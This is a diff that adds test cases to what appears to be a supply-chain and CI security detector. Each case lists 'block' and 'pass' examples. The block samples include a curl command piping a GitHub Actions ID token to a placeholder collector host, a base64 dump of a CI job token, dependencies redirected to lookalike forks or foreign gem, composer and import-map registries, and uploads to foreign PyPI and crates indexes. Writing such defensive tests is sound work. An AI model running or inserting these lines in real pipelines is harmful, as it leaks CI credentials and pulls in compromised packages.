@@ -311,6 +311,37 @@ const SOURCES: KbCase[] = [
     ],
   },
   {
+    id: "src.pip_git_fork",
+    block: [
+      "-e git+https://github.com/flask-hotfix/flask.git@main#egg=flask\n",
+      "requests @ git+https://github.com/req-fork-dev/requests.git\n",
+    ],
+    pass: [
+      "requests @ git+https://github.com/psf/requests.git@v2.32.3\n",
+      "-e git+https://github.com/pallets/flask.git@3.0.3#egg=flask\n",
+    ],
+  },
+  {
+    id: "src.ruby_php_source",
+    block: [
+      "source 'https://gems.example-mirror.top'\ngem 'rails', '~> 7.1'\n",
+      '{"repositories":[{"type":"composer","url":"https://packages.example-repo.cc"}],"require":{"monolog/monolog":"^3.0"}}',
+    ],
+    pass: [
+      "source 'https://rubygems.org'\ngem 'rails', '~> 7.1'\n",
+      '{"repositories":[{"type":"vcs","url":"https://github.com/acme/logger"}]}',
+    ],
+  },
+  {
+    id: "src.import_map_foreign",
+    block: [
+      '{"imports":{"@std/assert":"https://std.example-cdn.top/assert/mod.ts","zod":"npm:zod@3"}}',
+    ],
+    pass: [
+      '{"imports":{"@std/assert":"jsr:@std/assert@1","preact":"https://esm.sh/preact@10.22.0"}}',
+    ],
+  },
+  {
     id: "src.go_replace_fork",
     block: [
       "module github.com/acme/api\n\nrequire golang.org/x/net v0.25.0\n\nreplace golang.org/x/net => github.com/netfix-dev/net v0.25.1\n",
@@ -445,6 +476,17 @@ const CI: KbCase[] = [
     ],
   },
   {
+    id: "ci.runtime_token_out",
+    block: [
+      'curl -s -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL" | curl -d @- https://collector.example.top/t',
+      "  script:\n    - echo $CI_JOB_TOKEN | base64\n",
+    ],
+    pass: [
+      '  script:\n    - \'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file pkg.tgz "${CI_API_V4_URL}/projects/${CI_PROJECT_ID}/packages/generic/pkg/1.0/pkg.tgz"\'\n',
+      "  script:\n    - docker login -u gitlab-ci-token -p $CI_JOB_TOKEN registry.gitlab.com\n",
+    ],
+  },
+  {
     id: "ci.required_checks_removed",
     block: [
       '{"required_status_checks":null,"enforce_admins":true,"required_pull_request_reviews":{"require_code_owner_reviews":false,"required_approving_review_count":0}}',
@@ -521,6 +563,17 @@ const RELEASE: KbCase[] = [
     pass: [
       "gh release upload v1.4.1 dist/app-linux-amd64.tar.gz",
       "npm publish --provenance --access public",
+    ],
+  },
+  {
+    id: "rel.publish_foreign",
+    block: [
+      "twine upload --repository-url https://upload.example-pypi.top/legacy/ dist/*",
+      "cargo publish --index sparse+https://crates.example-index.cc/",
+    ],
+    pass: [
+      "twine upload --repository-url https://upload.pypi.org/legacy/ dist/*",
+      "twine upload dist/*",
     ],
   },
   {
